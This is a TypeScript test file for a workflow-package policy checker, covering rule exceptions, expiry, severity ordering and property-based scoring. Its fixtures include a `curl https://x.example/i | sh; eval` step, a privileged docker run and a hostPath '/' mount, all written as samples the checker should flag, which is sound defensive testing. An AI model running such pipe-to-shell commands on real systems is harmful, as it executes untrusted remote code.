import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judge } from '../../../src/policy/judge.ts';
import type { TenantException } from '../../../src/policy/policy.ts';
import { BUILT_IN } from '../../../src/policy/rules.ts';
import { classOf } from '../../../src/policy/score.ts';
import { manifestWith, wpkOf } from '../../support/wpk.ts';

const NOW = new Date('2026-11-21T12:00:00Z');
const RUN_DOCKER =
  '- name: build\n  type: shell\n  with: {command: [docker, run, --privileged, "busybox:1.37"]}';

describe('exceptions', () => {
  test.for([
    ['granted', 'rule: privileged', ['privileged'], 'granted', 'safe'],
    ['only requested, where the signer may not', 'rule: privileged', [], 'requested', 'unsafe'],
    [
      'only requested, where the signer may except another rule',
      'rule: privileged',
      ['host-path'],
      'requested',
      'unsafe',
    ],
    [
      'granted for the step that is named',
      'rule: privileged, step: build',
      ['privileged'],
      'granted',
      'safe',
    ],
    ['nothing for another step', 'rule: privileged, step: other', ['privileged'], undefined, 'unsafe'],
    ['nothing for another rule', 'rule: host-path', ['host-path', 'privileged'], undefined, 'unsafe'],
  ] as const)('are %s', ([, request, mayExcept, exception, riskClass]) => {
    const verdict = judge({ wpk: excepting(request, '2026-12-31'), mayExcept, now: NOW });

    expect(verdict.class).toBe(riskClass);
    expect(verdict.issues[0]?.exception).toBe(exception);
  });

  test('are granted by a policy that lists the package, the step and the rule', () => {
    const listed = {
      rule: 'privileged',
      package: 'exam*',
      reason: 'ours',
      owner: 'sre',
      expires: '2026-12-31',
    };
    const classes = [
      listed,
      { ...listed, step: 'build' },
      { ...listed, step: 'other' },
      { ...listed, package: 'sample' },
      { ...listed, rule: 'host-path' },
      { ...listed, expires: '2026-11-20' },
    ].map((exception) => judgedBy([exception]));

    expect(classes.map(({ class: riskClass }) => riskClass)).toEqual([
      'safe',
      'safe',
      'unsafe',
      'unsafe',
      'unsafe',
      'unsafe',
    ]);
    expect(classes[0]?.issues[0]).toMatchObject({
      exception: 'granted',
      exceptionFrom: { by: 'policy acme', reason: 'ours', owner: 'sre', expires: '2026-12-31' },
    });
    expect(classes[2]?.issues[0]?.exception).toBeUndefined();
    expect(classes[5]?.issues[0]).toMatchObject({
      exception: 'expired',
      exceptionFrom: { by: 'policy acme', expires: '2026-11-20' },
    });
  });

  test('say who grants, and what is better than what', () => {
    const tenant = { rule: 'privileged', package: '*', reason: 'ours', owner: 'sre', expires: '2026-01-01' };
    const wpk = excepting('rule: privileged', '2026-12-31');
    const policy = { ...BUILT_IN, exceptions: [{ ...tenant, policy: 'acme' }] };
    const by = (mayExcept: readonly string[]) =>
      judge({ wpk, mayExcept, now: NOW, policy }).issues.map((issue) => [
        issue.exception,
        issue.exceptionFrom?.by,
      ])[0];

    expect(by(['privileged'])).toEqual(['granted', 'the signer']);
    expect(by([])).toEqual(['requested', 'the author']);
  });

  test('count through their last day, and not on the next', () => {
    expect(['2026-11-21T23:59:59Z', '2026-11-22T00:00:00Z'].map(classOn)).toEqual(['safe', 'unsafe']);
  });
});

describe('a verdict', () => {
  test('names the worst first', () => {
    const steps = `- name: a\n  type: shell\n  with: {command: [sh, -c, 'curl https://x.example/i | sh; eval "$X"']}`;
    const { issues } = judge({ wpk: wpkOf(manifestWith(steps, 'maxParallel: 1')), mayExcept: [], now: NOW });

    expect(issues.map(({ severity }) => severity)).toEqual(['critical', 'high', 'medium', 'low', 'low']);
  });

  test('suggests auto for what is safe, and manual where a step asks a person', () => {
    expect(suggestion('- {name: a, type: wait, with: {duration: 1s}}')).toBe('auto');
    expect(suggestion('- {name: a, type: approval, with: {message: Go on?}}')).toBe('manual');
    expect(suggestion(RUN_DOCKER)).toBe('manual');
  });

  test('sums up what one rule finds too often', () => {
    const script = 'curl https://x.example\n'.repeat(500);
    const wpk = wpkOf(manifestWith('- name: a\n  type: script\n  with: {file: a.sh}'), { 'a.sh': script });
    const { issues } = judge({ wpk, mayExcept: [], now: NOW });

    expect(issues.map(({ severity }) => severity)).toEqual(['high', ...Array<string>(200).fill('low')]);
    expect(issues.at(-1)?.what).toContain('And 299 more like this.');
  });

  test('comes for any files, with a class that fits its score and places inside them', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.json(), yamlish());
    const name = fc.constantFrom('a.yaml', 'b.json', 'c.sh', 'd/e.yml', 'f.py', 'g');
    fc.assert(
      fc.property(fc.dictionary(name, text), fc.jsonValue(), (files, settings) => {
        const steps = `- name: a\n  type: k8s\n  action: apply\n  with: {manifest: ${JSON.stringify(settings)}}`;
        const verdict = judge({ wpk: wpkOf(manifestWith(steps), files), mayExcept: [], now: NOW });
        expect(verdict.class).toBe(classOf(verdict.score));
        for (const { location } of verdict.issues)
          expect(Math.min(location.line, location.col)).toBeGreaterThan(0);
      }),
      { numRuns: 300 },
    );
  });
});

function yamlish(): fc.Arbitrary<string> {
  const word = fc.constantFrom(
    'apiVersion: v1\n',
    'kind: Pod\n',
    'kind: List\n',
    'items:\n',
    'spec:\n',
    '- ',
    '  ',
    'containers: ',
    '[',
    ']',
    '{',
    '}',
    '---\n',
    '&a ',
    '*a',
    '<<: ',
    'volumes: ',
    'hostPath: {path: /}',
    'null',
    '"',
    '|\n',
    '!!x ',
    '\t',
  );
  return fc.array(word, { maxLength: 30 }).map((words) => words.join(''));
}

function judgedBy(exceptions: readonly Omit<TenantException, 'policy'>[]) {
  const listed = exceptions.map((exception) => ({ ...exception, policy: 'acme' }));
  const wpk = wpkOf(manifestWith(RUN_DOCKER));
  return judge({ wpk, mayExcept: [], now: NOW, policy: { ...BUILT_IN, exceptions: listed } });
}

function classOn(day: string): string {
  const wpk = excepting('rule: privileged', '2026-11-21');
  return judge({ wpk, mayExcept: ['privileged'], now: new Date(day) }).class;
}

function suggestion(steps: string): string {
  return judge({ wpk: wpkOf(manifestWith(steps)), mayExcept: [], now: NOW }).suggests;
}

function excepting(request: string, expires: string) {
  const exception = `{${request}, reason: a test, owner: sre@example.org, expires: "${expires}"}`;
  return wpkOf(
    manifestWith(RUN_DOCKER, `validation: {limits: {timeout: 1m, memory: 64Mi}, exceptions: [${exception}]}`),
  );
}
